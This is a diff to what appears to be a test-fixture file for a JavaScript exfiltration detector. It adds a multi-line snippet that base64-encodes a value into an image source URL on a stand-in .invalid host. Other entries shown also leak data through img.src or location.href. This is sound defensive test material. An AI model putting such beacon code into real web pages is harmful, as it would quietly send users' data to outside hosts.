@@ -109,6 +109,11 @@ JOINED = {
     "a template": ("i.src = `https://${code(x)}.t.invalid`", "src", "//t.invalid/"),
     "the host in two": ("i.src = 'https://a.inv' + 'alid/?' + x", "src", "//a.invalid/"),
     "a list": ("i.src = ['ht', 'tps:/', '/a.inv', 'alid/', x].join('')", "src", "//a.invalid/"),
+    "a chain over lines": (
+        "img.src =\n  '//' +\n  btoa(\n    x,\n  )\n    .slice(\n      0,\n      60,\n    ) +\n  '.t.invalid'",
+        "src",
+        "//t.invalid/",
+    ),
     "the page itself": ("location.href = '//' + x + '.t.invalid'", "location", "//t.invalid/"),
 }
 NOT_JOINED = {
